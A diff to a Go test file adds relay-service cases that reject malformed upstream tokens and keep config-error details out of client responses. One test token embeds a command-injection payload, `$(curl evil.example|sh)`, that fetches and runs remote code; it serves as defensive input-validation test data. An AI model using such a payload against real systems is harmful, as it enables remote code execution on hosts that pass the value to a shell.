@@ -175,6 +175,10 @@ func TestRelay(t *testing.T) {
 			wantStatus: 502, wantCode: "upstream_bad_answer", wantUpstream: true},
 		{name: "upstream token not text", upstream: answerJSON(200, `{"result": {"token": "a b"}}`), req: request{body: validForm},
 			wantStatus: 502, wantCode: "upstream_bad_answer", wantUpstream: true},
+		{name: "upstream token not a UUID", upstream: answerJSON(200, `{"result": {"token": "x'$(curl evil.example|sh)'"}}`), req: request{body: validForm},
+			wantStatus: 502, wantCode: "upstream_bad_answer", wantUpstream: true},
+		{name: "upstream token a UUID with a tail", upstream: answerJSON(200, `{"result": {"token": "4520efa4-ee63-4a6d-a585-091dc338ee28'"}}`), req: request{body: validForm},
+			wantStatus: 502, wantCode: "upstream_bad_answer", wantUpstream: true},
 		{name: "upstream redirect not followed", upstream: func(w http.ResponseWriter, r *http.Request) {
 			http.Redirect(w, r, "http://elsewhere.example/", http.StatusFound)
 		},
@@ -241,6 +245,11 @@ func TestRelay(t *testing.T) {
 			}
 			if len(logs) != 1 || logs[0].Status != w.Code {
 				t.Fatalf("logs = %+v, want one entry with status %d", logs, w.Code)
+			}
+			// A config error's cause is for the operator's log, not the client.
+			if tt.wantCode == "config_error" && (logs[0].Detail == "" || strings.Contains(w.Body.String(), logs[0].Detail) ||
+				strings.Contains(w.Body.String(), "UPSTREAM")) {
+				t.Errorf("config error: log detail %q, client got %s", logs[0].Detail, w.Body)
 			}
 		})
 	}
